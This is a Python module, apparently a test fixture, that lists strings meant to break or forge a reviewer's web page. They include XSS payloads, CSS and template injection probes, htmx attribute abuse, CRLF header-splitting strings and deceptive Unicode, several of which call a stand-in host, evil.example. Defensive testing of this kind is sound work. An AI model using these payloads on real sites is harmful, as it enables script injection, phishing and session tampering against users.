# SPDX-License-Identifier: Apache-2.0
"""Words that somebody might write into a request in order to run, restyle or forge the page of whoever reviews it."""

from __future__ import annotations

MARKUP = (
    "<script>window.pwned=1</script>",
    "<ScRiPt>window.pwned=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>window.pwned=1</script>",
    "</pre></bdi></div></article><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</title></style></script><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src='https://evil.example/pixel.png'>",
    '"><img src=x onerror=window.pwned=1>',
    "' autofocus onfocus=window.pwned=1 x='",
    '" onmouseover="window.pwned=1',
    "<body onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<video><source onerror=window.pwned=1></video>",
    "<input autofocus onfocus=window.pwned=1>",
    "<marquee onstart=window.pwned=1>x</marquee>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<object data=javascript:window.pwned=1></object>",
    "<embed src=javascript:window.pwned=1>",
    "<a href=javascript:window.pwned=1>Release</a>",
    "<a href='data:text/html,<script>window.pwned=1</script>'>x</a>",
    "<form action=https://evil.example><button>Sign</button></form>",
    "<button form=answers formaction=https://evil.example>Sign</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<template shadowrootmode=open><style>:host{position:fixed}</style></template>",
    "<dialog open>You have signed.</dialog>",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
    "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
)
DRAWN = (
    "<svg onload=window.pwned=1></svg>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    "<svg><foreignObject><script>window.pwned=1</script></foreignObject></svg>",
)
STYLED = (
    "<style>aside{display:none}</style>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<div style='position:fixed;inset:0;background:white;z-index:99'>Released</div>",
    "<p class=done>Signed and on record.</p>",
    "<font size=7 color=red>",
    "</style><style>*{content:url(https://evil.example)}</style>",
    "\x1b[2J\x1b[31mcleared\x1b[0m",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ person.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{# gone #}",
    "${window.pwned=1}",
    "#{7*7} <%= 7*7 %>",
    "{{constructor.constructor('window.pwned=1')()}}",
)
HTMX = (
    "<div hx-get=/queue hx-trigger=load></div>",
    "<div hx-post=/case/x/sign hx-trigger='load' hx-vals='js:{a:window.pwned=1}'></div>",
    "<div hx-on:click='window.pwned=1' data-hx-on--load='window.pwned=1'>x</div>",
    "<div hx-swap-oob='true' id=main>forged</div>",
    "<div hx-ext='evil' hx-disinherit='*' data-hx-get='https://evil.example' data-hx-trigger='every 1s'></div>",
    "<span data-key=s data-row data-stop data-passkey='{}'>s</span>",
)
HEADERS = (
    "x\r\nSet-Cookie: desk=evil; Path=/",
    "x\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>window.pwned=1</script>",
    "x%0d%0aLocation:%20https://evil.example",
    "x\nHX-Redirect: https://evil.example\nHX-Trigger: pwned",
)
CHARACTERS = (
    "\u202eenil rehtona\u202c",
    "\u2067\u2066 isolates that end nowhere",
    "\u200e\u200f\u061c marks of direction",
    "zero\u200bwidth\u200cand\u200djoined\ufeff",
    "tags \U000e0073\U000e0063\U000e0072\U000e0069\U000e0070\U000e0074",
    "z\u0351\u0357\u033b\u0353\u0348\u0324\u0315\u0303\u0305\u0306\u0307\u0308\u0309\u030a" * 8,
    "\u3164\u115f\u1160\uffa0\u2800 blanks that are letters",
    "＜script＞window.pwned=1＜/script＞ ﹤img src=x onerror=window.pwned=1﹥",
    "nul \x00 and bell \x07 and back \x08\x08\x08\x08",
    "line\u2028 and paragraph\u2029 ends, next\x85line",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 from right to left",
    "W" * 4_000,
    "https://evil.example/path?x=1 mailto:x@evil.example www.evil.example",
    "\ud7ff\ue000\ufdd0\uffff private and not characters",
)
CORPUS = (*MARKUP, *DRAWN, *STYLED, *TEMPLATES, *HTMX, *HEADERS, *CHARACTERS)
